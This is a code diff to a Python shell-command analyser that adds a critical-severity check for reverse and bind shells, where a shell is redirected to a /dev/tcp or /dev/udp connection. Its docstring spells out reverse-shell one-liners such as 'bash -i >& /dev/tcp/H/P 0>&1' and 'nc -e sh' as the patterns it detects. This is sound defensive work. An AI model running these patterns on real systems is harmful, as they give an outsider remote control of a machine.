@@ -71,6 +71,7 @@ class Analysis:
         self.written: list[str] = []  # files this line writes or downloads
         self.functions: set[str] = set()  # functions this line defines
         self.read_names: set[str] = set()  # variables `read` fills at run time
+        self.network_fd = False  # a redirection opened /dev/tcp or /dev/udp on this line
         self.hits: list[Hit] = []
         self.names: list[str] = []
         self.complete = True
@@ -471,6 +472,17 @@ class Analysis:
     def redirect(self, r: Redirect, simple: Simple | None = None) -> None:
         if r.target is not None and r.target.raw.startswith((">(", "<(")):
             return  # `> >(cmd)`: the command inside is judged on its own
+        if r.target is not None and simple is not None and self.remote_shell(r, simple):
+            self.add(
+                Hit(
+                    "net.remote_shell",
+                    "critical",
+                    "a shell reads its commands from, or writes to, a network connection "
+                    f"({r.target.text}): a reverse or bind shell",
+                    r.span,
+                    "system",
+                )
+            )
         if r.target is None or not r.writes:
             if r.op in ("<", "<>") and r.target is not None:
                 self.read_redirect(r)
@@ -501,6 +513,25 @@ class Analysis:
             return fed[0] if fed else None
         return None
 
+    def remote_shell(self, r: Redirect, simple: Simple) -> bool:
+        """`bash -i >& /dev/tcp/H/P 0>&1`, `exec 5<>/dev/tcp/H/P; sh <&5 >&5`: a shell
+        (reached directly or through a wrapper) whose input or output is a connection
+        this line opens, as `nc -e sh` is."""
+        assert r.target is not None
+        names = [command_name(w.text) for w in simple.words]
+        shell = next((n for n in names if n not in _WRAPPERS), "")
+        if command_name(shell) not in SHELLS:
+            return False
+        if classify(r.target.text) == "network":
+            self.network_fd = True
+            return True
+        return (
+            self.network_fd
+            and r.op in ("<&", ">&")
+            and r.target.text.isdigit()
+            and int(r.target.text) > 2
+        )
+
     def read_redirect(self, r: Redirect) -> None:
         """`< FILE` and `<> FILE`: a device, a credential, or a network connection."""
         assert r.target is not None
@@ -508,6 +539,7 @@ class Analysis:
         if cls == "device":
             self.add(Hit("fs.read_device", "low", f"reads the raw device {r.target.text}", r.span))
         elif cls == "network":
+            self.network_fd = True
             self.add(
                 Hit(
                     "net.dev_tcp",
